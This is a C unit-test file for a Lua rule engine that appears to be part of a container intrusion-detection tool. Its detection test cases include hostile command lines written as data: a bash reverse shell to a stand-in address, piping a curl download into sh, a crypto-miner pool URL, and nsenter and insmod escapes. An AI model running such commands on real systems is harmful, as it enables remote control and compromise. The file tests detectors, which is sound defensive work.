/* The engine: what it loads, what it says of events, and what rules cannot do to it or to each other. */
#include <errno.h>
#include <ftw.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmocka.h>

#include "base/clock.h"
#include "base/err.h"
#include "base/limits.h"
#include "lineage.h"
#include "rule/engine.h"

enum {
	MEMORY = 8 << 20,
	BUDGET = 100000,
	REPORT_BYTES = 16384,
};

static char dir[MW_PATH_BYTES - 256];

struct heard {
	char reports[REPORT_BYTES];
	unsigned alerts;
	enum mw_severity worst;
	char rule[64];
	char message[2048];
};

static int make_dir(void **state)
{
	(void)state;
	const char *above = getenv("TMPDIR");
	(void)snprintf(dir, sizeof(dir), "%s/rules-XXXXXX", above ? above : "/tmp");
	return mkdtemp(dir) ? 0 : -1;
}

static int remove_entry(const char *path, const struct stat *st, int type, struct FTW *ftw)
{
	(void)st;
	(void)type;
	(void)ftw;
	return remove(path);
}

static int remove_dir(void **state)
{
	(void)state;
	return nftw(dir, remove_entry, 16, FTW_DEPTH | FTW_PHYS);
}

static void write_file(const char *name, const char *text)
{
	char path[MW_PATH_BYTES];
	(void)snprintf(path, sizeof(path), "%s/%s", dir, name);
	FILE *to = fopen(path, "we");
	assert_non_null(to);
	assert_int_not_equal(fputs(text, to), EOF);
	assert_int_equal(fclose(to), 0);
	assert_int_equal(chmod(path, 0600), 0);
}

/* A good rule but for what is given: `head` before it, `keys` within, `body` of match (which has to agree with the
 * examples: true for a process named "yes"). */
static void write_rule(const char *id, const char *head, const char *keys, const char *body)
{
	char text[8192];
	char name[128];
	(void)snprintf(text, sizeof(text),
		       "%s\n"
		       "return {\n"
		       "  id = \"%s\",\n"
		       "  summary = \"A test\",\n"
		       "  why = \"To test.\",\n"
		       "  on = { \"process.exec\" },\n"
		       "  severity = \"low\",\n"
		       "  attack = { \"T1059\", \"T1059.004\" },\n"
		       "  %s\n"
		       "  match = function(event) local name = event.process.name %s return name == \"yes\" end,\n"
		       "  examples = {\n"
		       "    { expect = true, event = { process = { name = \"yes\" } } },\n"
		       "    { expect = false, event = { process = { name = \"no\" } } },\n"
		       "  },\n"
		       "}\n",
		       head, id, keys, body);
	(void)snprintf(name, sizeof(name), "%s.lua", id);
	write_file(name, text);
}

static void on_report(void *data, const char *line)
{
	struct heard *heard = data;
	size_t n = strlen(heard->reports);
	(void)snprintf(heard->reports + n, sizeof(heard->reports) - n, "%s\n", line);
}

static void on_alert(void *data, const struct mw_alert *alert)
{
	struct heard *heard = data;
	if (!heard->alerts++ || alert->rule->severity > heard->worst) {
		heard->worst = alert->rule->severity;
		(void)snprintf(heard->rule, sizeof(heard->rule), "%s", alert->rule->id);
		(void)snprintf(heard->message, sizeof(heard->message), "%s", alert->message);
	}
}

static struct mw_rules *load(struct heard *heard, const char *only)
{
	struct mw_rules *rules = NULL;
	struct mw_err err = {""};
	const char *const paths[] = {only, NULL};
	struct mw_rules_options options = {
		.tree = MW_TEST_TREE,
		.extra_dirs = "",
		.memory_bytes = MEMORY,
		.event_instructions = BUDGET,
		.report = on_report,
		.data = heard,
		.paths = only ? paths : NULL,
	};
	if (mw_rules_load(&options, &rules, &err) < 0)
		fail_msg("%s", err.text);
	return rules;
}

/* What the rules say of the exec at the end of a lineage. */
static void judge(struct mw_rules *rules, const char *lineage, struct heard *heard)
{
	struct mw_process *process = lineage_parse(lineage);
	struct mw_event event = lineage_event(MW_PROCESS_EXEC, process);
	heard->alerts = 0;
	mw_rules_judge(rules, &event, on_alert, heard);
	mw_process_unref(process);
}

static void an_alert_has_all_of_its_rule(void **state)
{
	(void)state;
	struct heard heard = {0};
	write_rule("a_rule", "",
		   "message = \"{{{process.parent.name}}} ({process.ppid}) {process.argv} [{process.cmdline}] "
		   "{process.tty} {kind} {process.start}\",",
		   "");
	struct mw_rules *rules = load(&heard, dir);
	assert_string_equal(heard.reports, "");
	assert_int_equal(mw_rules_count(rules), 1);
	assert_true(mw_rules_want(rules, MW_PROCESS_EXEC));
	assert_false(mw_rules_want(rules, MW_PROCESS_EXIT));
	const struct mw_rule_info *info = mw_rules_info(rules, 0);
	assert_string_equal(info->id, "a_rule");
	assert_string_equal(info->summary, "A test");
	assert_int_equal(info->severity, MW_SEVERITY_LOW);
	assert_int_equal(info->attack_bytes, sizeof("T1059\0T1059.004"));
	assert_memory_equal(info->attack, "T1059\0T1059.004", info->attack_bytes);
	assert_null(mw_rules_info(rules, 1));

	judge(rules, "nginx > no", &heard);
	assert_int_equal(heard.alerts, 0);
	judge(rules, "nginx > yes a\x1b b", &heard);
	assert_int_equal(heard.alerts, 1);
	assert_string_equal(heard.message, "{nginx} (10) yes a\\x1b b [yes a\\x1b b] ? process.exec "
					   "2026-01-02T03:04:05.000000000Z");
	mw_rules_free(rules);
}

static void sockets_that_may_be_anothers_are_no_business_of_rules(void **state)
{
	(void)state;
	struct heard heard = {0};
	write_file(
		"connects.lua",
		"return { id = \"connects\", summary = \"A test\", why = \"To test.\", on = { \"socket.connect\" },"
		"  severity = \"low\", attack = { \"T1071\" }, where = { ports = { 4444 } },"
		"  examples = { { expect = true, event = { kind = \"socket.connect\", socket = { remote_port = 4444 } } },"
		"    { expect = false, event = { kind = \"socket.connect\", socket = { remote_port = 443 } } } } }\n");
	struct mw_rules *rules = load(&heard, dir);
	assert_string_equal(heard.reports, "");
	const struct mw_socket socket = {.remote_port = 4444};
	struct mw_process *process = lineage_parse("nginx");
	const struct {
		bool is_sampled, is_owned;
		unsigned alerts;
	} cases[] = {{true, true, 1}, {true, false, 0}, {false, true, 1}, {false, false, 1}};
	for (size_t i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
		struct mw_event event = lineage_event(MW_SOCKET_CONNECT, cases[i].is_owned ? process : NULL);
		event.socket = &socket;
		event.is_sampled = cases[i].is_sampled;
		heard.alerts = 0;
		mw_rules_judge(rules, &event, on_alert, &heard);
		assert_int_equal(heard.alerts, cases[i].alerts);
	}
	mw_process_unref(process);
	mw_rules_free(rules);
}

static void a_message_is_bounded(void **state)
{
	(void)state;
	struct heard heard = {0};
	write_rule("long", "",
		   "message = \"{process.cmdline}{process.cmdline}{process.cmdline}{process.cmdline}{process.cmdline}"
		   "{process.cmdline}{process.cmdline}{process.cmdline}\",",
		   "");
	write_rule("plain", "", "summary = \"Braces {} are no fields\",", "");
	struct mw_rules *rules = load(&heard, dir);
	char lineage[1000];
	memset(lineage, 'x', sizeof(lineage));
	memcpy(lineage, "yes ", 4);
	lineage[sizeof(lineage) - 1] = '\0';
	judge(rules, lineage, &heard);
	assert_int_equal(heard.alerts, 2);
	assert_true(strlen(heard.message) <= 1024 && strlen(heard.message) > 800);
	mw_rules_free(rules);
}

static void assert_refused(const char *line)
{
	struct heard heard = {0};
	struct mw_rules *rules = load(&heard, dir);
	char expected[MW_PATH_BYTES];
	(void)snprintf(expected, sizeof(expected), "%s/%s", dir, line);
	if (!strstr(heard.reports, expected))
		fail_msg("reported \"%s\", expected \"%s\"", heard.reports, expected);
	assert_int_equal(mw_rules_count(rules), 1);
	assert_int_equal(mw_rules_refused(rules), 1);
	mw_rules_free(rules);
}

static void what_is_wrong_is_said_with_file_and_line(void **state)
{
	(void)state;
	static const struct {
		const char *head, *keys, *body, *line;
	} cases[] = {
		{"", "sevrity = \"low\",", "", "b.lua:9: unknown key 'sevrity'; did you mean 'severity'?"},
		{"", "api = 2,", "", "b.lua:9: api: made for version 2"},
		{"", "message = \"{process.nmae}\",", "",
		 "b.lua:9: message: {process.nmae}: Process has no field 'nmae'; did"},
		{"", "message = \"{process}\",", "", "b.lua:9: message: {process} is an object"},
		{"", "message = \"{process.pid\",", "", "b.lua:9: message: brace without its partner"},
		{"", "tags = { 1 },", "", "b.lua:9: tags: must be one line"},
		{"", "severity = \"bad\",", "", "b.lua:7: severity: must be one of info, low, medium"},
		{"", "on = { \"process.exce\" },", "",
		 "b.lua:6: on: 'process.exce' is no kind of event; did you mean 'process.exec'?"},
		{"", "attack = { \"T1\" },", "", "b.lua:8: attack: 'T1' is no ATT&CK technique"},
		{"", "examples = {},", "", "b.lua: "},
		{"local x = = 1", "", "", "b.lua:1: unexpected symbol near '='"},
		{"while true do end", "", "", "b.lua:1: ran longer than 1000000 instructions"},
		{"x = 1", "", "", "b.lua:1: global 'x' cannot be set"},
		{"", "", "while true do end", "b.lua:12: example 1: b.lua:10: ran longer than 100000 instructions"},
		{"", "", "if event.process.nmae then end",
		 "b.lua:12: example 1: b.lua:10: Process has no field 'nmae'; did you mean 'name'?"},
		{"", "", "event.kind = 1", "b.lua:12: example 1: b.lua:10: events are read-only"},
		{"", "", "name = name == \"no\" and \"yes\" or name",
		 "b.lua:13: example 2: expected no match, the rule says match"},
		{"local t = {} for i = 1, 80000 do t[i] = {} end", "", "if t[1] == 1 then return end",
		 "b.lua:1: keeps "},
	};
	write_rule("good", "", "", "");
	for (size_t i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
		if (strncmp(cases[i].keys, "examples", 8) == 0)
			continue;
		write_rule("b", cases[i].head, cases[i].keys, cases[i].body);
		assert_refused(cases[i].line);
	}
	write_file("b.lua", "return 1");
	assert_refused("b.lua:1: must return a table, returns number");
	write_file("b.lua", "return require 'moonwatch.lists'");
	assert_refused("b.lua:1: unknown key '");
	write_file("b.lua", "return {}");
	assert_refused("b.lua:1: id is missing");
	write_file("b.lua", "");
	assert_refused("b.lua:1: must return a table, returns nil");
}

static void an_id_is_taken_once(void **state)
{
	(void)state;
	struct heard heard = {0};
	char sub[MW_PATH_BYTES];
	(void)snprintf(sub, sizeof(sub), "%s/z", dir);
	assert_int_equal(mkdir(sub, 0700), 0);
	write_rule("same", "", "", "");
	write_rule("z/same", "", "", "");
	write_rule(".hidden", "", "", "");
	write_file("note.txt", "not a rule");
	struct mw_rules *rules = load(&heard, dir);
	/* "z/same" is not even a name. */
	assert_int_equal(mw_rules_count(rules), 1);
	assert_int_equal(mw_rules_refused(rules), 1);
	mw_rules_free(rules);

	char from[MW_PATH_BYTES + 16];
	char to[MW_PATH_BYTES + 16];
	(void)snprintf(from, sizeof(from), "%s/same.lua", dir);
	(void)snprintf(to, sizeof(to), "%s/z/same.lua", dir);
	assert_int_equal(unlink(to), 0);
	assert_int_equal(link(from, to), 0);
	memset(&heard, 0, sizeof(heard));
	rules = load(&heard, dir);
	assert_int_equal(mw_rules_count(rules), 1);
	assert_non_null(strstr(heard.reports, "/z/same.lua:3: id 'same' is taken by "));
	mw_rules_free(rules);
}

static void a_rule_that_fails_is_switched_off_alone(void **state)
{
	(void)state;
	struct heard heard = {0};
	write_rule("bad", "", "", "if name == \"poison\" then error(\"oh\\27[31m\\nno\") end");
	write_rule("good", "", "", "");
	struct mw_rules *rules = load(&heard, dir);
	for (unsigned i = 1; i < MW_RULE_FAULTS; i++)
		judge(rules, "poison", &heard);
	assert_string_equal(heard.reports, "");
	judge(rules, "yes", &heard);
	assert_int_equal(heard.alerts, 2);
	judge(rules, "poison", &heard);
	assert_non_null(strstr(heard.reports, "/bad.lua:10: oh [31m no; rule bad switched off after 5 faults\n"));
	judge(rules, "yes", &heard);
	assert_int_equal(heard.alerts, 1);
	assert_string_equal(heard.rule, "good");
	mw_rules_free(rules);
}

static void a_rule_that_hoards_is_found(void **state)
{
	(void)state;
	struct heard heard = {0};
	write_rule("a_first", "", "", "local a = event.process.argv or {} if a[1] == \"x\" then return true end");
	write_rule("hoard", "local kept = {}", "", "for i = 1, 100 do kept[#kept + 1] = { i } end");
	write_rule("last", "", "", "local a = event.process.argv or {} if a[1] == \"x\" then return true end");
	struct mw_rules *rules = load(&heard, dir);
	unsigned n = 0;
	for (; n < 10000 && !heard.reports[0]; n++) {
		judge(rules, "nginx > yes a b c", &heard);
		/* Nobody misses an event for it. */
		assert_true(heard.alerts == 3 || heard.reports[0]);
	}
	assert_non_null(strstr(heard.reports, "/hoard.lua: rule hoard switched off: it keeps about "));
	for (unsigned i = 0; i < 1000; i++) {
		judge(rules, "nginx > yes a b c", &heard);
		assert_int_equal(heard.alerts, 2);
	}
	mw_rules_free(rules);
}

static void an_event_is_dead_after_the_call(void **state)
{
	(void)state;
	struct heard heard = {0};
	write_rule("keeps", "local kept", "",
		   "if name == \"second\" then return kept.kind end "
		   "if name == \"first\" then kept = event end");
	struct mw_rules *rules = load(&heard, dir);
	judge(rules, "first", &heard);
	for (unsigned i = 0; i < MW_RULE_FAULTS; i++)
		judge(rules, "second", &heard);
	assert_non_null(strstr(heard.reports, "/keeps.lua:10: Event used after the call it was handed to"));
	mw_rules_free(rules);
}

static void paths_that_are_not_there_are_reported(void **state)
{
	(void)state;
	struct heard heard = {0};
	struct mw_rules *rules = load(&heard, "/nonexistent/rules");
	assert_int_equal(mw_rules_count(rules), 0);
	assert_int_equal(mw_rules_refused(rules), 1);
	assert_non_null(strstr(heard.reports, "/nonexistent/rules: cannot be opened"));
	mw_rules_free(rules);
}

static void shipped_rules_survive_next_to_nothing(void **state)
{
	(void)state;
	struct heard heard = {0};
	struct mw_rules *rules = load(&heard, NULL);
	assert_string_equal(heard.reports, "");
	assert_true(mw_rules_count(rules) >= 16);
	struct mw_process *process = mw_process_new(1, NULL, 0);
	for (int kind = 0; kind < MW_EVENT_KINDS; kind++) {
		struct mw_event event = lineage_event((enum mw_event_kind)kind, process);
		for (unsigned i = 0; i <= MW_RULE_FAULTS; i++)
			mw_rules_judge(rules, &event, on_alert, &heard);
	}
	assert_int_equal(heard.alerts, 0);
	assert_string_equal(heard.reports, "");
	mw_process_unref(process);
	mw_rules_free(rules);
}

/* What ordinary images do at their start and while they run: nothing of it may alarm anybody. */
static void shipped_rules_are_quiet_on_ordinary_images(void **state)
{
	(void)state;
	static const char *const ordinary[] = {
		/* nginx */
		"/docker-entrypoint.sh nginx -g daemon > find /docker-entrypoint.d/ -follow -type f -print -quit",
		("/docker-entrypoint.sh nginx -g daemon > /docker-entrypoint.d/10-listen-on-ipv6-by-default.sh > "
		 "sed -i -E s,listen_80;,x, /etc/nginx/conf.d/default.conf"),
		"/docker-entrypoint.sh nginx > /docker-entrypoint.d/20-envsubst-on-templates.sh > envsubst",
		"nginx: master process > nginx",
		/* postgres */
		"docker-entrypoint.sh postgres > initdb --username=postgres > sh -c \"/usr/lib/postgresql/16/bin/postgres\" -V",
		"postgres > sh -c test ! -f /archive/1 && cp pg_wal/1 /archive/1",
		"postgres > sh -c pgbackrest --stanza=main archive-push pg_wal/1",
		"docker-entrypoint.sh > pg_ctl -D /var/lib/postgresql/data start > sh -c \"postgres\" -D x",
		/* health checks */
		"sh -c curl -f http://localhost/ || exit 1",
		"sh -c curl -f localhost > curl -f localhost",
		"sh -c wget -q --spider http://localhost:8080/health",
		"bash -c </dev/tcp/localhost/8080",
		"sh -c pg_isready -U postgres > pg_isready -U postgres",
		"sh -c redis-cli ping > redis-cli ping",
		"sh -c nc -z localhost 6379 > nc -z localhost 6379",
		/* php-fpm, apache, cron, logrotate, supervisors */
		"docker-php-entrypoint php-fpm > php-fpm",
		"php-fpm > sh -c -- /usr/sbin/sendmail -t -i",
		"apache2 > apache2 -DFOREGROUND",
		"/bin/sh /usr/sbin/apachectl > apache2 -k start",
		"cron -f > sh -c cd / && run-parts --report /etc/cron.hourly > run-parts --report /etc/cron.hourly",
		"cron -f > sh -c logrotate > logrotate /etc/logrotate.conf > sh -c \ninvoke-rc.d nginx rotate logrotate_script",
		"supervisord > nginx -g daemon",
		"tini -- > java -jar app.jar",
		"npm start > sh -c node server.js > node server.js",
		"docker-entrypoint.sh redis-server > find . ! -user redis -exec chown redis {} +",
		"docker-entrypoint.sh mysqld > mysqld --daemonize",
		"docker-entrypoint.sh > chmod 0755 /data",
		"docker-entrypoint.sh > chmod 1777 /tmp",
		"docker-entrypoint.sh > base64 -d",
		"docker-entrypoint.sh > cat /etc/hostname",
		"gunicorn app:app > gunicorn app:app",
	};
	struct heard heard = {0};
	struct mw_rules *rules = load(&heard, NULL);
	for (size_t i = 0; i < sizeof(ordinary) / sizeof(*ordinary); i++) {
		judge(rules, ordinary[i], &heard);
		if (heard.alerts && heard.worst > MW_SEVERITY_MEDIUM)
			fail_msg("%s: %s", heard.rule, ordinary[i]);
	}
	mw_rules_free(rules);
}

static void shipped_rules_see_intruders(void **state)
{
	(void)state;
	static const struct {
		const char *lineage, *rule;
	} cases[] = {
		{"nginx > nginx > sh -c id", "shell_from_web_server"},
		{"php-fpm8.2 > php-fpm8.2 > sh -c id > id", "shell_from_web_server"},
		{"apache2 > sh -c /usr/sbin/sendmail -t; id", "shell_from_web_server"},
		{"postgres > sh -c id", "shell_from_database"},
		{"postgres > sh -c test ! -f x && cp pg_wal/1 x && id", "shell_from_database"},
		{"java -jar app.jar > jspawnhelper > bash -c id", "java_child"},
		{"node > sh -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "reverse_shell_cmdline"},
		{"node > sh -c curl http://x/i | sh", "pipe_to_shell"},
		{"sh > ./x -o stratum+tcp://pool:3333", "crypto_miner"},
		{"sh > nsenter -t 1 -m", "nsenter_chroot"},
		{"sh > insmod x.ko", "kernel_module"},
		{"sh > /bin/sh /dev/shm/x", "exec_dev_shm"},
	};
	struct heard heard = {0};
	struct mw_rules *rules = load(&heard, NULL);
	for (size_t i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
		judge(rules, cases[i].lineage, &heard);
		if (!heard.alerts || heard.worst < MW_SEVERITY_HIGH || strcmp(heard.rule, cases[i].rule) != 0)
			fail_msg("%s: %u alerts, the worst by %s; expected %s", cases[i].lineage, heard.alerts,
				 heard.alerts ? heard.rule : "nobody", cases[i].rule);
	}
	mw_rules_free(rules);
}

/* The target is 1 µs for a rule and an event; ten times that is a mistake, whatever machine and sanitizer this is. */
static void judging_is_cheap(void **state)
{
	(void)state;
	enum {
		EVENTS = 5000
	};
	struct heard heard = {0};
	struct mw_rules *rules = load(&heard, NULL);
	struct mw_process *process = lineage_parse("nginx > nginx > worker --with some --arguments");
	struct mw_event event = lineage_event(MW_PROCESS_EXEC, process);
	int64_t start = mw_clock_mono_ns();
	for (unsigned i = 0; i < EVENTS; i++)
		mw_rules_judge(rules, &event, on_alert, &heard);
	int64_t ns = (mw_clock_mono_ns() - start) / EVENTS / (int64_t)mw_rules_count(rules);
	print_message("# %lld ns for one rule and one event\n", (long long)ns);
	assert_true(ns < 20000);
	mw_process_unref(process);
	mw_rules_free(rules);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(an_alert_has_all_of_its_rule, make_dir, remove_dir),
		cmocka_unit_test_setup_teardown(sockets_that_may_be_anothers_are_no_business_of_rules, make_dir,
						remove_dir),
		cmocka_unit_test_setup_teardown(a_message_is_bounded, make_dir, remove_dir),
		cmocka_unit_test_setup_teardown(what_is_wrong_is_said_with_file_and_line, make_dir, remove_dir),
		cmocka_unit_test_setup_teardown(an_id_is_taken_once, make_dir, remove_dir),
		cmocka_unit_test_setup_teardown(a_rule_that_fails_is_switched_off_alone, make_dir, remove_dir),
		cmocka_unit_test_setup_teardown(a_rule_that_hoards_is_found, make_dir, remove_dir),
		cmocka_unit_test_setup_teardown(an_event_is_dead_after_the_call, make_dir, remove_dir),
		cmocka_unit_test(paths_that_are_not_there_are_reported),
		cmocka_unit_test(shipped_rules_survive_next_to_nothing),
		cmocka_unit_test(shipped_rules_are_quiet_on_ordinary_images),
		cmocka_unit_test(shipped_rules_see_intruders),
		cmocka_unit_test(judging_is_cheap),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
